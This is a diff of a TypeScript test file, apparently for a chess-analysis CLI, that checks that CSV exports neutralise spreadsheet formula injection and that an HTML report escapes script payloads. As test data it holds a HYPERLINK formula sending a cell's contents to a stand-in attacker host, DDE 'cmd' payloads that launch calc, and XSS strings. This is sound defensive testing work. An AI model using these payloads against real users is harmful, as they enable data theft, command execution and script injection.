@@ -22,9 +22,9 @@ const runs = (cell: string): boolean => cell.length > 0 && FORMULA_START.include
 /** Tag values a spreadsheet would run, each in a tag of its own; and harmless ones that must stay as they are. */
 const HOSTILE: Record<string, string> = {
   Event: '=HYPERLINK("http://evil.example/?"&A1,"click")',
-  Site: '+1+cmd|\' /C calc\'!A0',
+  Site: "+1+cmd|' /C calc'!A0",
   White: '-2+3',
-  Black: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  Black: "@SUM(1+1)*cmd|' /C calc'!A0",
   Annotator: '\t=1+1',
   Round: '-',
   Opening: '- Gambit: =1',
@@ -43,7 +43,8 @@ describe('csvText', () => {
   });
 
   it('leaves other values as csvField writes them, quoting included', () => {
-    for (const s of ['', 'Carlsen, Magnus', "'=already quoted", ' =1', 'a=1', 'x-y', '2000', '1/2-1/2', 'say "hi"']) expect(csvText(s)).toBe(csvField(s));
+    for (const s of ['', 'Carlsen, Magnus', "'=already quoted", ' =1', 'a=1', 'x-y', '2000', '1/2-1/2', 'say "hi"'])
+      expect(csvText(s)).toBe(csvField(s));
     expect(csvText('=1,2')).toBe('"\'=1,2"');
     expect(csvText('-"x"')).toBe('"\'-""x"""');
   });
@@ -65,10 +66,12 @@ describe('analyze -f csv --tags', () => {
     const first = rows.filter((row) => row[0] === '1');
     expect(first.length).toBeGreaterThan(8);
     for (const row of first) {
-      expect(row.slice(fixed)).toEqual(asked.map((t) => {
-        const v = HOSTILE[t] ?? HARMLESS[t];
-        return runs(v) ? `'${v}` : v;
-      }));
+      expect(row.slice(fixed)).toEqual(
+        asked.map((t) => {
+          const v = HOSTILE[t] ?? HARMLESS[t];
+          return runs(v) ? `'${v}` : v;
+        }),
+      );
     }
     const second = asked.map((t) => ({ Event: 'plain', White: 'Kasparov, G' })[t] ?? '');
     for (const row of rows.filter((row) => row[0] === '2')) expect(row.slice(fixed)).toEqual(second);
@@ -82,15 +85,36 @@ describe('analyze -f csv --tags', () => {
 describe('puzzle CSV', () => {
   it('neutralises GameUrl and OpeningTags, which come from the game, and nothing of ours', () => {
     const base: Puzzle = {
-      id: 'g1p20', game: 1, ply: 20, fenBefore: 'r1bqkb1r/pppp1ppp/2n2n2/4p2Q/2B1P3/8/PPPP1PPP/RNB1K1NR w KQkq - 4 4',
-      moves: ['h5f7'], mateIn: 1, cp: 9999, themes: ['mate', 'mateIn1', 'short'], gameUrl: '', openingTags: '', verified: true, chess960: false,
+      id: 'g1p20',
+      game: 1,
+      ply: 20,
+      fenBefore: 'r1bqkb1r/pppp1ppp/2n2n2/4p2Q/2B1P3/8/PPPP1PPP/RNB1K1NR w KQkq - 4 4',
+      moves: ['h5f7'],
+      mateIn: 1,
+      cp: 9999,
+      themes: ['mate', 'mateIn1', 'short'],
+      gameUrl: '',
+      openingTags: '',
+      verified: true,
+      chess960: false,
     };
     const opening = openingTags(HOSTILE.Opening);
     expect(opening.startsWith('-')).toBe(true); // the Opening key keeps '-': game text that would run
     const hostile: Puzzle = { ...base, gameUrl: gameUrl('https://lichess.org/abcdefgh', 20), openingTags: opening };
     const rows = readCsv(puzzleCsv.header() + puzzleCsv.puzzle(hostile) + puzzleCsv.puzzle({ ...base, openingTags: '@x', gameUrl: '=y' }));
     expect(rows[0]).toEqual(PUZZLE_CSV_COLUMNS.split(','));
-    expect(rows[1]).toEqual([base.id, base.fenBefore, 'h5f7', '', '', '', '', 'mate mateIn1 short', 'https://lichess.org/abcdefgh/black#20', `'${opening}`]);
+    expect(rows[1]).toEqual([
+      base.id,
+      base.fenBefore,
+      'h5f7',
+      '',
+      '',
+      '',
+      '',
+      'mate mateIn1 short',
+      'https://lichess.org/abcdefgh/black#20',
+      `'${opening}`,
+    ]);
     expect(rows[2].slice(8)).toEqual(["'=y", "'@x"]);
     for (const row of rows) for (const cell of row) expect(runs(cell), cell).toBe(false);
   });
@@ -103,7 +127,10 @@ describe('the --report page', () => {
     const attr = '"onload=alert(2) x="';
     const img = '<img src=x onerror=alert(3)>';
     const input = join(dir, `${img}.pgn`);
-    writeFileSync(input, game({ Event: script, White: attr, Black: img, Site: 'javascript:alert(4)', Opening: script, ECO: script, TimeControl: attr }));
+    writeFileSync(
+      input,
+      game({ Event: script, White: attr, Black: img, Site: 'javascript:alert(4)', Opening: script, ECO: script, TimeControl: attr }),
+    );
     const report = join(dir, 'report.html');
     const r = await runCli([input, '-f', 'none', '-q', '--report', report, '--stats', join(dir, 'stats.json')]);
     expect(r.code, r.stderr).toBe(0);
